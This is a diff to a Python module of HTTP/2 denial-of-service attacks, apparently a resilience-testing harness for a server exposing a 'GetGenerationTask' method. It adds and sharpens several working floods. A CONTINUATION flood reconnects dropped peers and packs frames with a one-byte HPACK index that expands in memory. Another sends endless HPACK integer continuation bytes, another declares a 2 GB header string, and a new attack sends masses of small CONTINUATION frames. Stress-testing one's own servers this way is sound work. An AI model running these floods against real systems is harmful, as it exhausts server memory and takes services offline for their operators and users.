@@ -235,34 +235,59 @@ def unfinished_messages_with_token(target):
     unfinished_messages(target, token=True)
 
 
-def endless_block(target, first, piece):
-    """A header block that never ends: HEADERS, then CONTINUATION frames."""
-    peers = [target.peer() for _ in range(4)]
-    for peer in peers:
-        peer.open(first, flags=0)
-    def step(peer):
-        peer.send(h2.frame(h2.CONTINUATION, 0, peer.next_stream - 2, piece) * 16)
+def endless_block(target, first, unit, connections=4):
+    """Header blocks that never end: HEADERS, then CONTINUATION frames full of `unit`. A peer whose connection is closed
+    comes back."""
+    frames = h2.frame(h2.CONTINUATION, 0, 1, unit * (16384 // len(unit))) * 16
+    peers = [None] * connections
+    def step(place):
+        try:
+            if peers[place.number] is None or peers[place.number].closed:
+                peers[place.number] = target.peer()
+                peers[place.number].open(first, flags=0)
+            peers[place.number].send(frames)
+        except OSError:
+            peers[place.number] = None
         return 16
-    target.rounds(peers, step)
+    target.rounds([Place(number) for number in range(connections)], step)
+
+
+class Place:
+    """A turn of `rounds` whose peer may be replaced."""
+    closed = False
+
+    def __init__(self, number=0):
+        self.number = number
 
 
 @attack("CONTINUATION flood", 60_000, 500)
 def continuation_flood(target):
-    fields = h2.literal(b"x-junk", b"j" * 1000) * 16
-    endless_block(target, target.block(TASKS + b"GetGenerationTask"), fields)
+    # Index 16 of the static table, `accept-encoding: gzip, deflate`: one byte in the block, many in memory.
+    endless_block(target, target.block(TASKS + b"GetGenerationTask"), b"\x90", connections=8)
 
 
 @attack("endless HPACK integers", 20_000, 200)
 def endless_hpack_integers(target):
     # The length of a name, whose continuation bytes add zero for ever.
-    endless_block(target, target.block(TASKS + b"GetGenerationTask") + b"\x00\x7f", b"\x80" * 16384)
+    endless_block(target, target.block(TASKS + b"GetGenerationTask") + b"\x00\x7f", b"\x80")
 
 
 @attack("endless header string", 60_000, 500)
 def endless_header_string(target):
     # A value that says it has 2 GB.
     first = target.block(TASKS + b"GetGenerationTask") + b"\x00" + h2.text(b"x-junk") + h2.integer(0x7fffff00, 7)
-    endless_block(target, first, b"j" * 16384)
+    endless_block(target, first, b"j")
+
+
+@attack("CONTINUATION flood of small frames", 200_000, 1000)
+def continuation_flood_of_small_frames(target):
+    peers = [target.peer() for _ in range(4)]
+    for peer in peers:
+        peer.open(target.block(TASKS + b"GetGenerationTask"), flags=0)
+    def step(peer):
+        peer.send(h2.frame(h2.CONTINUATION, 0, peer.next_stream - 2) * 250)
+        return 250
+    target.rounds(peers, step)
 
 
 def reset_streams(target, token):
@@ -384,11 +409,7 @@ def junk_in_headers(target):
             pass
         time.sleep(0.001)
         return 1
-    target.rounds([Always()], step)
-
-
-class Always:
-    closed = False
+    target.rounds([Place()], step)
 
 
 @attack("bad UTF-8", 10_000, 340)
